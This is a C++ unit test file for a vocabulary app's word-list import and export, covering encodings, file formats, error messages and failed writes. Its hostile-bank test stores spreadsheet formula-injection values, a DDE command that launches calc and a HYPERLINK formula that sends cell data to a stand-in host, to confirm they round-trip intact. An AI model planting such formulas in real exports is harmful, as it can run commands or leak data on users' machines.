// Import of word lists: the shapes and encodings a learner brings, the files
// that must be refused whole (with the line named), the export of a hostile
// bank read back byte for byte, and a write that cannot go through leaving
// the bank file as it was.
#include "wordstore/word_import.h"

#include <gtest/gtest.h>

#include <fstream>
#include <string>
#include <vector>

#include "base/code_page.h"
#include "testing/faulty_vfs.h"
#include "testing/held_file.h"
#include "testing/temp_dir.h"
#include "testing/word_fixture.h"
#include "wordstore/sql.h"
#include "wordstore/word_bank.h"
#include "wordstore/word_export.h"

namespace quorvo {
namespace {

// (word, translation) in UTF-8.
using Pairs = std::vector<std::pair<std::string, std::string>>;

Pairs WordsOf(const ImportFile& file) {
  Pairs out;
  for (const ImportedWord& w : file.words) out.emplace_back(Utf8(w.word), Utf8(w.translation));
  return out;
}

TEST(WordImportTest, ShapesAndEncodingsGiveTheSameWords) {
  struct Case {
    const char* name;
    std::string bytes;
    const char* fileName;
    Pairs expected;
    int duplicates, cut, skipped;
  };
  const std::string longWord(70, 'w');
  const std::string longTrans(1100, 'x');
  const Case cases[] = {
      {"utf-8 with bom, header",
       "\xEF\xBB\xBFword,translation\r\napple,苹果\r\npear,梨\r\n",
       "a.csv",
       {{"apple", "苹果"}, {"pear", "梨"}},
       0,
       0,
       0},
      {"utf-8, no header",
       "apple,苹果\npear,\"梨, 雪梨\"\n",
       "a.csv",
       {{"apple", "苹果"}, {"pear", "梨, 雪梨"}},
       0,
       0,
       0},
      {"chinese header, columns swapped", "释义,单词\n苹果,apple\n", "a.csv", {{"apple", "苹果"}}, 0, 0, 0},
      {"utf-16le with bom",
       std::string("\xFF\xFE"
                   "a\0,\0\xF9\x82\n\0",
                   10),
       "a.csv",
       {{"a", "苹"}},
       0,
       0,
       0},
      {"utf-16be with bom", std::string("\xFE\xFF\0a\0,\x82\xF9\0\n", 10), "a.csv", {{"a", "苹"}}, 0, 0, 0},
      {"utf-16le without bom", std::string("a\0b\0,\0\xF9\x82\n\0", 10), "a.csv", {{"ab", "苹"}}, 0, 0, 0},
      {"gb18030", "apple,\xC6\xBB\xB9\xFB\n", "a.csv", {{"apple", "苹果"}}, 0, 0, 0},
      {"tab separated", "apple\t苹果\n", "list.txt", {{"apple", "苹果"}}, 0, 0, 0},
      {"plain list", "apple\n  pear  \r\n\nplum\n", "list.txt", {{"apple", ""}, {"pear", ""}, {"plum", ""}}, 0, 0, 0},
      {"duplicates: the last row wins", "a,1\nb,2\na,3\na,4\n", "d.csv", {{"a", "4"}, {"b", "2"}}, 2, 0, 0},
      {"over-long cells cut, rows without a word skipped",
       longWord + "," + longTrans + "\n,orphan\nok,\n",
       "c.csv",
       {{longWord.substr(0, 55), longTrans.substr(0, 1023)}, {"ok", ""}},
       0,
       1,
       1},
      {"a cut never splits a character",
       std::string(54, 'a') + "苹,x\n",
       "c.csv",
       {{std::string(54, 'a'), "x"}},
       0,
       1,
       0},
      {"anki text, our headers",
       "#separator:tab\n#html:true\n#notetype:Basic\n#deck:b\n#columns:Front\tBack\tTags\t音标\n"
       "#tags column:3\n&#35;hash\t&quot;x&quot;<br>y &amp; &lt;b&gt;\tb\t/a/\n# a comment\nword\tmeaning\tb\t\n",
       "cards.txt",
       {{"#hash", "\"x\"\ny & <b>"}, {"word", "meaning"}},
       0,
       0,
       0},
      {"anki text without columns",
       "#separator:tab\n#html:false\nfront\tback\n",
       "cards.txt",
       {{"front", "back"}},
       0,
       0,
       0},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    auto file = ParseImportText(c.bytes, c.fileName);
    ASSERT_TRUE(file.ok()) << file.status().message();
    EXPECT_EQ(c.expected, WordsOf(*file));
    EXPECT_EQ(c.duplicates, file->duplicates);
    EXPECT_EQ(c.cut, file->cut);
    EXPECT_EQ(c.skipped, file->skipped);
  }
}

TEST(WordImportTest, ABadFileIsRefusedWholeNamingTheLine) {
  struct Case {
    const char* name;
    std::string bytes;
    const char* message;
  };
  const Case cases[] = {
      {"quote never closed", "a,1\nb,2\nc,\"3\nd,4\n", "第 3 行：引号没有结束"},
      {"bad utf-8 after a bom",
       "\xEF\xBB\xBF"
       "a,1\nb,\xFF\xFE\n",
       "第 2 行：不是有效的 UTF-8 文本"},
      {"a zero byte (binary)", std::string("a,1\nb,2\n\x01\x02\0\x03", 12), "第 3 行：有零字节，这不是文本文件"},
      {"known that is neither", "word,translation,known\na,x,会\nb,y,maybe\n",
       "第 3 行：会背一栏的“maybe”不是“会”或“不会”"},
      {"hot that is no number", "word,hot\na,1\nb,12x\n", "第 3 行：热度一栏的“12x”不是整数"},
      {"empty file", "", "文件里没有单词"},
      {"only blank lines", "\n\r\n  \n", "文件里没有单词"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    auto file = ParseImportText(c.bytes, "x.csv");
    ASSERT_FALSE(file.ok());
    EXPECT_EQ(c.message, file.status().message());
  }
  testing::TempDir dir;
  std::string big = dir.File("big.csv");
  std::ofstream(big).seekp(static_cast<std::streamoff>(kMaxImportFileBytes)) << 'x';
  auto file = ReadImportFile(big);
  ASSERT_FALSE(file.ok());
  EXPECT_EQ("文件超过 64 MiB，没有导入", file.status().message());
}

// Every column of every row in id order, as hex: equal dumps, equal bytes.
std::vector<std::string> RowsAsHex(WordDatabase& db, const std::string& bank) {
  Statement s(db.handle(), "select hex(value), hex(phonetic), hex(trans), quote(known), quote(hot) from " +
                               BankIdentifier(bank) + " order by id");
  std::vector<std::string> rows;
  while (s.Step().value_or(false))
    rows.push_back(s.Text(0) + "|" + s.Text(1) + "|" + s.Text(2) + "|" + s.Text(3) + "|" + s.Text(4));
  return rows;
}

TEST(WordImportTest, AnExportedHostileBankComesBackByteForByte) {
  testing::TempDir dir;
  WordDatabase db;
  ASSERT_TRUE(db.Open(dir.File("dict_main.db")));
  testing::CreateBanks(db, {"hostile"});
  struct Row {
    const char* word;
    const char* phonetic;
    const char* trans;
    const char* known;  // SQL literal
    const char* hot;    // SQL literal
  } const rows[] = {
      {"=cmd|' /C calc'!A0", "/ˈkʌmənd/", "=HYPERLINK(\"http://x/?x=\"&A1,\"点我\")", "0", "12"},
      {"'tis", "", "'引号开头", "1", "-3"},
      {"tab\there", "", "制表\t符,逗号\n换行\r\n回车", "0", "NULL"},
      {"<b>bold</b>", "", "<i>斜体</i> & 😀 堃喆镕〇", "1", "0"},
      {"+plus", "", "-minus", "0", "7"},
      {"@at", "", "\"quoted\"", "0", "1"},
      {"#hash", "", "#注释", "0", "2"},
  };
  for (const Row& r : rows) {
    Statement insert(db.handle(),
                     std::string("insert into hostile (value, phonetic, trans, known, hot) values (?, ?, ?, ") +
                         r.known + ", " + r.hot + ")");
    insert.Bind(1, Gbk(r.word)).Bind(2, Gbk(r.phonetic)).Bind(3, Gbk(r.trans));
    ASSERT_TRUE(insert.Run().ok());
  }
  auto exported = ReadExportRows(db, "hostile");
  ASSERT_TRUE(exported.ok());
  std::string path = dir.File("hostile.csv");
  ASSERT_TRUE(WriteExport(path, *exported, ExportFormat::Csv, "hostile").ok());
  auto file = ReadImportFile(path);
  ASSERT_TRUE(file.ok()) << file.status().message();
  EXPECT_EQ(0, file->cut + file->duplicates + file->skipped);
  auto counts = WriteImport(db, "copy", *file);
  ASSERT_TRUE(counts.ok()) << counts.status().message();
  EXPECT_EQ(7, counts->added);
  EXPECT_TRUE(counts->createdBank);
  EXPECT_EQ(RowsAsHex(db, "hostile"), RowsAsHex(db, "copy"));
  ASSERT_EQ(7u, RowsAsHex(db, "copy").size());

  // The same file again into the filled bank: every word is updated, none
  // is added, and nothing changes.
  counts = WriteImport(db, "copy", *file);
  ASSERT_TRUE(counts.ok());
  EXPECT_EQ(0, counts->added);
  EXPECT_EQ(7, counts->updated);
  EXPECT_EQ(RowsAsHex(db, "hostile"), RowsAsHex(db, "copy"));
}

// A write that cannot go through leaves the file as it was: no half of the
// rows, and no new bank either.
TEST(WordImportTest, AFailedWriteLeavesTheBankFileAsItWas) {
  ImportFile many;
  for (int i = 0; i < 5000; ++i)
    many.words.push_back({"w" + std::to_string(i), "", Gbk("释义很长很长很长"), {}, {}, i});
  enum class Fault { kHeld, kFull, kReadOnly, kRefusedName };
  const struct {
    const char* name;
    Fault fault;
    StatusCode code;
  } cases[] = {
      {"held by another program", Fault::kHeld, StatusCode::kBusy},
      {"disk fills half-way", Fault::kFull, StatusCode::kDiskFull},
      {"read-only file", Fault::kReadOnly, StatusCode::kReadOnly},
      {"refused bank name", Fault::kRefusedName, StatusCode::kRefused},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    testing::TempDir dir;
    std::string path = dir.File("dict_main.db");
    {
      WordDatabase setup;
      ASSERT_TRUE(setup.Open(path));
      testing::CreateBanks(setup, {"main_word"});
      testing::PutWord(setup, "main_word", "keep", "留着", 3);
    }
    const std::string before = testing::DumpFile(path);
    {
      testing::FaultyVfs vfs;
      std::unique_ptr<testing::HeldFile> held;
      if (c.fault == Fault::kHeld) {
        held = std::make_unique<testing::HeldFile>(path, testing::HeldFile::Kind::kWriting);
        ASSERT_TRUE(held->held());
      }
      vfs.SetReadOnly(c.fault == Fault::kReadOnly);
      WordDatabase db;
      ASSERT_TRUE(db.Open(path));
      db.SetBusyTimeout(50);
      if (c.fault == Fault::kFull) vfs.SetWriteBudget(16 * 1024);
      auto counts = WriteImport(db, c.fault == Fault::kRefusedName ? "review_card" : "new bank", many);
      ASSERT_FALSE(counts.ok());
      EXPECT_EQ(c.code, counts.status().code()) << counts.status().message();
      db.Close();
    }
    EXPECT_EQ(before, testing::DumpFile(path));
  }
}

}  // namespace
}  // namespace quorvo
